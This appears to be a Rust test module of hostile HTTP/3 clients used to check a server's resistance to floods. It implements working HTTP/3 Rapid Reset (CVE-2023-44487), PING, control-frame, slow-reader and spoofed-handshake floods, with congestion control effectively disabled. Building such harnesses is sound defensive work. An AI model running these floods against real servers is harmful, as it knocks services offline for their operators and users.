//! Hostile clients of HTTP/3: each sends one kind of flood over one connection after the other, until it is stopped.
//!
//! They use the library of QUIC directly, without limits of congestion, and never wait.

use std::collections::VecDeque;
use std::io;
use std::net::{Ipv4Addr, SocketAddr, UdpSocket};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use bytes::{Bytes, BytesMut};
use quinn_proto::crypto::rustls::QuicClientConfig;
use quinn_proto::{
    ClientConfig, Connection, ConnectionError, ConnectionHandle, DatagramEvent, Dir, Endpoint,
    EndpointConfig, Event, StreamId, TransportConfig, VarInt, congestion,
};
use rustls::SupportedCipherSuite;
use rustls::crypto::aws_lc_rs;

use super::message::{
    ALPN, REQUEST_CANCELLED, control_stream, priority_update, request, reserved_frame,
};
use super::relay::Random;
use crate::config::{LARGE_FILE, SMALL_FILE, protocols};
use crate::h2::client::Ask;
use crate::h2::hostile::Seen;
use crate::load::is_transient;
use crate::wire::{Sessions, Tls};

/// A kind of flood.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Attack {
    /// Requests that are reset at once (CVE-2023-44487).
    RapidReset,
    /// Packets with PING alone (RFC 9000 section 19.2).
    Ping,
    /// Frames of the control stream that change nothing: PRIORITY_UPDATE, and a reserved type.
    Control,
    /// Large responses that no window lets out.
    SlowReader,
    /// First packets, each from another address, whose sender sends no other.
    Handshakes,
}

/// The settings of hostile connections, made once.
pub(crate) struct Hostile {
    attack: Attack,
    address: SocketAddr,
    config: ClientConfig,
    /// HEADERS of the small and of the large file.
    requests: [Bytes; 2],
}

impl Hostile {
    /// Prepares an attack on an address.
    ///
    /// # Errors
    /// In words: there is no certificate.
    pub(crate) fn new(attack: Attack, address: SocketAddr) -> Result<Hostile, String> {
        let pair = protocols::ecdsa().map_err(|error| format!("certificate: {error}"))?;
        let pem = pair.certificate.as_bytes();
        let tls = Tls::new(pem, protocols::NAME, &[ALPN], Sessions::Full)?;
        let SupportedCipherSuite::Tls13(suite) = aws_lc_rs::cipher_suite::TLS13_AES_128_GCM_SHA256
        else {
            return Err("no suite for first packets".to_owned());
        };
        let suite = suite.quic_suite().ok_or("no suite for first packets")?;
        let crypto = QuicClientConfig::with_initial(tls.config(), suite);
        let crypto = crypto.map_err(|error| format!("TLS: {error}"))?;
        let mut config = ClientConfig::new(Arc::new(crypto));
        config.transport_config(Arc::new(transport(attack)));
        let authority = address.to_string();
        let requests = [SMALL_FILE, LARGE_FILE]
            .map(|(name, bytes)| request(&Ask::get(format!("/{name}"), bytes), &authority));
        Ok(Hostile { attack, address, config, requests })
    }

    /// Attacks until `stop`. A connection that the server ends is followed by another.
    pub(crate) fn run(&self, stop: &AtomicBool, seen: &Seen) {
        while !stop.load(Ordering::Relaxed) {
            let attacked = match self.attack {
                Attack::Handshakes => self.spoof(stop, seen),
                _ => self.attack_once(stop, seen),
            };
            if attacked.is_err() {
                thread::sleep(PAUSE);
            }
        }
    }

    fn attack_once(&self, stop: &AtomicBool, seen: &Seen) -> io::Result<()> {
        let mut attacker = Attacker::connect(self)?;
        seen.opened.fetch_add(1, Ordering::Relaxed);
        if let Some(reason) = attacker.run(stop, seen)? {
            seen.ended.fetch_add(1, Ordering::Relaxed);
            let is_calm = matches!(&reason, ConnectionError::ApplicationClosed(close)
                if close.error_code.into_inner() == EXCESSIVE_LOAD);
            seen.calm.fetch_add(u64::from(is_calm), Ordering::Relaxed);
        }
        Ok(())
    }

    /// Sends complete first packets from many addresses of the loopback, and reads nothing.
    fn spoof(&self, stop: &AtomicBool, seen: &Seen) -> io::Result<()> {
        let mut random = Random(u64::from(std::process::id()) | 1 << 40);
        // Sockets stay open for a time: the server gets no error for what it sends to them.
        let mut sockets = VecDeque::new();
        let mut buffer = Vec::new();
        while !stop.load(Ordering::Relaxed) {
            let [a, b, c, ..] = random.next().to_be_bytes();
            // Not the network's own address, nor that of broadcasts.
            let source = Ipv4Addr::new(127, a, b, c.clamp(1, 254));
            let socket = UdpSocket::bind((source, 0))?;
            let mut endpoint = Endpoint::new(Arc::default(), None, true, None);
            let begun =
                endpoint.connect(Instant::now(), self.config.clone(), self.address, &self.name());
            let (_, mut connection) = begun.map_err(io::Error::other)?;
            seen.opened.fetch_add(1, Ordering::Relaxed);
            loop {
                buffer.clear();
                let transmit = connection.poll_transmit(Instant::now(), 1, &mut buffer);
                let Some(transmit) = transmit else { break };
                if let Ok(count) = socket.send_to(&buffer[..transmit.size], self.address) {
                    seen.bytes.fetch_add(count as u64, Ordering::Relaxed);
                }
            }
            sockets.push_back(socket);
            if sockets.len() > SPOOFED_SOCKETS {
                sockets.pop_front();
            }
        }
        Ok(())
    }

    fn name(&self) -> String {
        self.address.ip().to_string()
    }
}

fn transport(attack: Attack) -> TransportConfig {
    let mut config = TransportConfig::default();
    let mut control = congestion::CubicConfig::default();
    control.initial_window(WINDOW_BYTES);
    config.congestion_controller_factory(Arc::new(control));
    config.mtu_discovery_config(None);
    if attack == Attack::SlowReader {
        config.stream_receive_window(VarInt::from_u32(0));
    }
    config
}

/// One connection of a hostile client.
struct Attacker<'a> {
    hostile: &'a Hostile,
    socket: UdpSocket,
    endpoint: Endpoint,
    connection: Connection,
    handle: ConnectionHandle,
    control: Option<StreamId>,
    /// Requests that were sent and are to be reset.
    open: Vec<StreamId>,
    /// Frames of the control stream that are not written.
    pending: Vec<u8>,
    is_begun: bool,
    buffer: Vec<u8>,
    received: Vec<u8>,
}

impl Attacker<'_> {
    fn connect(hostile: &Hostile) -> io::Result<Attacker<'_>> {
        let socket = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0))?;
        socket.set_nonblocking(true)?;
        let mut endpoint = Endpoint::new(Arc::new(EndpointConfig::default()), None, true, None);
        let begun = endpoint.connect(
            Instant::now(),
            hostile.config.clone(),
            hostile.address,
            &hostile.name(),
        );
        let (handle, connection) = begun.map_err(io::Error::other)?;
        Ok(Attacker {
            hostile,
            socket,
            endpoint,
            connection,
            handle,
            control: None,
            open: Vec::new(),
            pending: Vec::new(),
            is_begun: false,
            buffer: Vec::new(),
            received: vec![0; DATAGRAM_BYTES_MAX],
        })
    }

    /// Attacks until the server ends the connection, with the reason, or `stop`.
    fn run(&mut self, stop: &AtomicBool, seen: &Seen) -> io::Result<Option<ConnectionError>> {
        while !stop.load(Ordering::Relaxed) {
            let received = self.receive()?;
            let now = Instant::now();
            if self.connection.poll_timeout().is_some_and(|at| at <= now) {
                self.connection.handle_timeout(now);
            }
            self.exchange();
            while let Some(event) = self.connection.poll() {
                if let Event::ConnectionLost { reason } = event {
                    return Ok(Some(reason));
                }
            }
            if !self.connection.is_handshaking() {
                self.attack(seen)?;
            }
            let sent = self.send(seen)?;
            if received + sent == 0 {
                thread::sleep(PAUSE);
            }
        }
        Ok(None)
    }

    fn receive(&mut self) -> io::Result<usize> {
        for count in 0..DATAGRAMS_PER_TURN {
            let (bytes, from) = match self.socket.recv_from(&mut self.received) {
                Ok(received) => received,
                Err(error) if is_transient(&error) => return Ok(count),
                Err(error) => return Err(error),
            };
            let bytes = BytesMut::from(&self.received[..bytes]);
            self.buffer.clear();
            let now = Instant::now();
            let event = self.endpoint.handle(now, from, None, None, bytes, &mut self.buffer);
            if let Some(DatagramEvent::ConnectionEvent(_, event)) = event {
                self.connection.handle_event(event);
            }
        }
        Ok(DATAGRAMS_PER_TURN)
    }

    fn exchange(&mut self) {
        while let Some(event) = self.connection.poll_endpoint_events() {
            if let Some(reply) = self.endpoint.handle_event(self.handle, event) {
                self.connection.handle_event(reply);
            }
        }
    }

    /// Sends what there is, at most some datagrams.
    fn send(&mut self, seen: &Seen) -> io::Result<usize> {
        for count in 0..DATAGRAMS_PER_TURN {
            self.buffer.clear();
            let transmit = self.connection.poll_transmit(Instant::now(), 1, &mut self.buffer);
            let Some(transmit) = transmit else { return Ok(count) };
            match self.socket.send_to(&self.buffer[..transmit.size], self.hostile.address) {
                Ok(bytes) => drop(seen.bytes.fetch_add(bytes as u64, Ordering::Relaxed)),
                // Lost, as on the way.
                Err(error) if is_transient(&error) => return Ok(count),
                Err(error) => return Err(error),
            }
        }
        Ok(DATAGRAMS_PER_TURN)
    }

    /// Adds a piece of the flood.
    fn attack(&mut self, seen: &Seen) -> io::Result<()> {
        if self.control.is_none() {
            self.control = self.connection.streams().open(Dir::Uni);
            self.write(self.control, &control_stream());
        }
        let [small, large] = self.hostile.requests.clone();
        match self.hostile.attack {
            Attack::RapidReset => {
                for stream in std::mem::take(&mut self.open) {
                    let code = VarInt::from_u64(REQUEST_CANCELLED).unwrap_or_default();
                    let _ = self.connection.send_stream(stream).reset(code);
                    let _ = self.connection.recv_stream(stream).stop(code);
                }
                while self.open.len() < FRAMES {
                    let Some(stream) = self.connection.streams().open(Dir::Bi) else { break };
                    self.write(Some(stream), &small);
                    self.open.push(stream);
                }
            }
            Attack::Ping => {
                for _ in 0..FRAMES {
                    self.connection.ping();
                    if self.send(seen)? == 0 {
                        break;
                    }
                }
            }
            Attack::Control => {
                if self.pending.is_empty() {
                    for number in 0..FRAMES as u64 {
                        priority_update(&mut self.pending, number * 4);
                        reserved_frame(&mut self.pending);
                    }
                }
                let pending = std::mem::take(&mut self.pending);
                let written = self.write(self.control, &pending);
                self.pending = pending.get(written..).unwrap_or_default().to_vec();
            }
            Attack::SlowReader if self.is_begun => {}
            Attack::SlowReader => {
                for _ in 0..SLOW_STREAMS {
                    let stream = self.connection.streams().open(Dir::Bi);
                    self.write(stream, &large);
                    if let Some(stream) = stream {
                        let _ = self.connection.send_stream(stream).finish();
                    }
                }
            }
            Attack::Handshakes => {}
        }
        self.is_begun = true;
        Ok(())
    }

    /// Writes as much as fits; returns its length.
    fn write(&mut self, stream: Option<StreamId>, bytes: &[u8]) -> usize {
        stream.map_or(0, |stream| self.connection.send_stream(stream).write(bytes).unwrap_or(0))
    }
}

/// H3_EXCESSIVE_LOAD.
const EXCESSIVE_LOAD: u64 = 0x107;
/// More than any flood sends before it is acknowledged.
const WINDOW_BYTES: u64 = 1 << 30;
/// Streams or frames between two looks at the socket.
const FRAMES: usize = 100;
const SLOW_STREAMS: usize = 100;
const DATAGRAMS_PER_TURN: usize = 64;
const DATAGRAM_BYTES_MAX: usize = 65_536;
const SPOOFED_SOCKETS: usize = 500;
const PAUSE: Duration = Duration::from_millis(1);
